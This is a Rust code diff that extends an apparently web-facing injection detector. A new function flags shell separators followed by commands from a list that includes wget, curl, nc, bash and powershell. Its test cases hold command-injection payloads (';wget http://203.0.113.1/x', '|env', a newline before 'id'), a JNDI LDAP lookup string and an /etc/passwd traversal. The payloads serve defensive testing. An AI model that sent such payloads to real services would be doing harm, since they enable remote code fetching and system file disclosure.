@@ -181,7 +181,7 @@ impl QueryWords {
     }
 
     fn search(&self, text: &[u8]) -> Option<Injection> {
-        let mut worst = None;
+        let mut worst = runs_a_command(text).then_some(Injection::Command);
         for (place, byte) in text.iter().enumerate() {
             let Some(marks) = self.by_first.get(usize::from(*byte)) else {
                 continue;
@@ -198,6 +198,45 @@ impl QueryWords {
         }
         worst
     }
+}
+
+/// Whether a separator of shells is followed by a common command, as in `;id` or `| env`; not where it names a parameter.
+fn runs_a_command(text: &[u8]) -> bool {
+    const COMMANDS: [&[u8]; 22] = [
+        b"env",
+        b"set",
+        b"id",
+        b"ls",
+        b"cat",
+        b"wget",
+        b"curl",
+        b"ping",
+        b"sleep",
+        b"whoami",
+        b"uname",
+        b"dir",
+        b"type",
+        b"nslookup",
+        b"echo",
+        b"sh",
+        b"bash",
+        b"nc",
+        b"python",
+        b"perl",
+        b"powershell",
+        b"netstat",
+    ];
+    let separators = text.iter().enumerate();
+    let mut starts = separators.filter(|(_, byte)| matches!(byte, b';' | b'|' | b'`' | b'\n'));
+    starts.any(|(place, _)| {
+        let rest = text.get(place + 1..).unwrap_or_default().trim_ascii_start();
+        let word = rest
+            .split(|byte| !byte.is_ascii_alphanumeric())
+            .next()
+            .unwrap_or_default();
+        let follows = rest.get(word.len());
+        COMMANDS.contains(&word) && follows != Some(&b'=')
+    })
 }
 
 fn may_hold_a_mark(target: &[u8]) -> bool {
@@ -269,6 +308,9 @@ mod tests {
             ("/%2e%2e/%2e%2e/etc/passwd", Injection::File),
             ("/x?a=${jndi:ldap://203.0.113.1/a}", Injection::Command),
             ("/x?a=1;wget%20http://203.0.113.1/x", Injection::Command),
+            ("/search?q=%7Cenv", Injection::Command),
+            ("/search?q=a%29%3Benv%3B", Injection::Command),
+            ("/search?q=x%0Aid", Injection::Command),
         ];
         for (target, sort) in cases {
             assert_eq!(words.look(target), Some(sort), "{target}");
@@ -286,6 +328,8 @@ mod tests {
             "/oauth/callback?code=4/P7q7W91&state=a%3Db&redirect_uri=https%3A%2F%2Fapp.example.com%2Fx",
             "/items?fields=(id,name)&where={%22a%22:1}",
             "/presentations/a-b_c/images/x.png",
+            "/list?a=1;id=7;type=2",
+            "/search?q=ls|grep&sort=set",
         ] {
             assert_eq!(words.look(target), None, "{target}");
         }
